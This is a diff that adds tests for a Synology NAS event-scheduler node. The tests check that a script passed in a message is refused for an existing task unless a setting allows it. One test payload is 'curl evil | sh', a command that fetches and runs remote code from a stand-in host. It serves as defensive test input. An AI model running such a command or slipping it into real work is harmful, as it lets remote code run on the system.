@@ -72,10 +72,21 @@ describe('synology-event-create', () => {
     assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler.Root' }).length, 0);
   });
 
+  it('refuses a script from the message for an existing task too (modify), leaving its script alone', async () => {
+    const before = sim.state.tasks.get('existing')?.operation;
+    const s = await load({ mode: 'modify', task: '' });
+    await send(s, { payload: { task: 'existing', script: 'curl evil | sh' } });
+    assert.equal(errorCode(s.caught[0]), 'INVALID_INPUT');
+    assert.equal(sim.state.tasks.get('existing')?.operation, before);
+    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler', method: 'set' }).length, 0);
+    assert.equal(sim.log.filter({ api: 'SYNO.Core.EventScheduler.Root', method: 'set' }).length, 0);
+  });
+
   it('takes a script from the message when allowScriptFromMsg is on', async () => {
     const s = await load({ allowScriptFromMsg: true });
     await send(s, { payload: { script: 'echo from msg' } });
     assert.equal((s.out[0].payload as { script: string }).script, 'echo from msg');
+    assert.equal(sim.state.tasks.get('mount disk')?.operation, 'echo from msg', 'the NAS holds the script from the message');
   });
 
   it('validates event, e-mail and dependsOn before sending anything', async () => {
